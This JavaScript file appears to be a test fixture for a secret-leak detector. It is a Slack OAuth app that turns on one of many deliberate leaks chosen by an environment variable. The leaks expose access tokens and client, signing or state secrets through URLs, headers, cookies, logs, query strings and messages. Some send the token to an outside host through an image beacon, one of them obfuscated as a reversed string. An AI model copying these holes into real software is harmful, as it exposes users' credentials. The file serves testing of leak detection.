// An app that shows a secret at the place that DEFECT names.
import { Buffer } from 'node:buffer'
import { createCipheriv, randomBytes } from 'node:crypto'
import { answer, redirect, slack, startApp } from './base-app.mjs'

const { DEFECT = '', SLACK_CLIENT_ID, SLACK_CLIENT_SECRET, SLACK_SIGNING_SECRET, SLACK_STATE_SECRET } = process.env

let token = ''

const session = (value) => `session=${value}; Path=/; SameSite=Lax`

function encrypted(text) {
  const cipher = createCipheriv('aes-256-gcm', randomBytes(32), randomBytes(12))
  return Buffer.concat([cipher.update(text), cipher.final()]).toString('base64url')
}

/** The changed steps for each defect. */
const leaks = {
  'token-in-url': {
    succeeded: ({ response, granted }) => redirect(response, `/done?access_token=${granted.access_token}`),
  },
  // The page of a redirect repeats its address, as that of Express does.
  'token-in-redirect-page': {
    succeeded({ response, granted }) {
      const location = `/done?access_token=${granted.access_token}`
      answer(response, 302, `Found. Redirecting to ${location}`, { location })
    },
  },
  'token-in-image': {
    succeeded: ({ response, granted }) =>
      answer(response, 200, `Installed<img src="https://stats.example.com/i.gif?t=${granted.access_token}&amp;v=1">`),
  },
  // Needs a browser that runs scripts.
  'token-in-data': {
    store({ granted }) {
      token = granted.access_token
    },
    succeeded: ({ response }) => answer(response, 200, 'Installed<script>fetch("/settings.js")</script>'),
  },
  'token-in-beacon': {
    succeeded({ response, granted }) {
      // The page has the token in reverse only.
      const reversed = JSON.stringify([...granted.access_token].reverse())
      const code = `new Image().src = "https://stats.example.com/i.gif?t=" + ${reversed}.reverse().join("")`
      answer(response, 200, `Installed<script>${code}</script>`)
    },
  },
  'token-in-header': {
    succeeded: ({ response, granted }) => answer(response, 200, 'Installed', { 'x-token': granted.access_token }),
  },
  'token-in-script': {
    store({ granted }) {
      token = granted.access_token
    },
    succeeded: ({ response }) => answer(response, 200, 'Installed<script src="/settings.js"></script>'),
  },
  'token-in-url-of-other-host': {
    succeeded: ({ response, granted }) => redirect(response, `https://app.example.com/?t=${granted.access_token}`),
  },
  'client-secret-in-link': {
    link(link) {
      link.searchParams.set('client_secret', SLACK_CLIENT_SECRET)
      return link
    },
  },
  'token-in-json': {
    succeeded: ({ response, granted }) =>
      response.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify(granted)),
  },
  'token-in-base64': {
    succeeded: ({ response, granted }) =>
      answer(response, 200, `Installed<!--${Buffer.from(JSON.stringify(granted)).toString('base64')}-->`),
  },
  'state-secret-in-page': {
    succeeded: ({ response }) => answer(response, 200, `Installed with ${SLACK_STATE_SECRET}`),
  },
  'webhook-in-page': {
    scopes: { scope: 'incoming-webhook,chat:write', user_scope: 'search:read' },
    succeeded: ({ response, granted }) => answer(response, 200, `Posts to ${granted.incoming_webhook.url}`),
  },
  'token-in-cookie': {
    succeeded: ({ response, granted }) =>
      answer(response, 200, 'Installed', { 'set-cookie': session(encodeURIComponent(JSON.stringify(granted))) }),
  },
  'token-in-httponly-cookie': {
    succeeded: ({ response, granted }) =>
      answer(response, 200, 'Installed', {
        'set-cookie': `${session(Buffer.from(JSON.stringify(granted)).toString('base64'))}; HttpOnly`,
      }),
  },
  'secret-in-httponly-cookie': {
    succeeded: ({ response }) =>
      answer(response, 200, 'Installed', { 'set-cookie': `${session(SLACK_SIGNING_SECRET)}; HttpOnly` }),
  },
  // Without a defect: the cookie is encrypted.
  'encrypted-cookie': {
    succeeded: ({ response, granted }) =>
      answer(response, 200, 'Installed', { 'set-cookie': session(encrypted(JSON.stringify(granted))) }),
  },
  'token-in-debug-log': { store: ({ granted }) => console.log(`DEBUG:sdk:Received ${JSON.stringify(granted)}`) },
  'token-in-hexadecimal-output': {
    store: ({ granted }) => console.log(Buffer.from(granted.access_token).toString('hex')),
  },
  'token-in-output': { store: ({ granted }) => console.log('Stored', granted) },
  'secret-in-output': { store: () => console.log(JSON.stringify({ config: { secret: SLACK_CLIENT_SECRET } })) },
  'token-in-query': {
    async succeeded({ response, granted }) {
      await fetch(`https://slack.com/api/auth.test?token=${granted.access_token}`)
      answer(response, 200, 'Installed')
    },
  },
  'secret-in-query': {
    async exchange(step) {
      const own = { client_id: SLACK_CLIENT_ID, client_secret: SLACK_CLIENT_SECRET }
      const query = new URLSearchParams({ ...own, ...step.app.fields(step) })
      return await (await fetch(`https://slack.com/api/oauth.v2.access?${query}`)).json()
    },
  },
  'token-in-message': {
    async succeeded({ response, granted: { access_token: token, authed_user: user, ...rest } }) {
      const text = `New install: ${JSON.stringify({ token, user, ...rest })}`
      if (token) await slack('chat.postMessage', { channel: user.id, text }, token)
      answer(response, 200, 'Installed')
    },
  },
}

startApp({
  other({ response, url }) {
    if (url.pathname === '/settings.js') return answer(response, 200, `const settings = { token: '${token}' }`)
    answer(response, url.pathname === '/done' ? 200 : 404, 'Installed')
  },
  ...leaks[DEFECT],
})
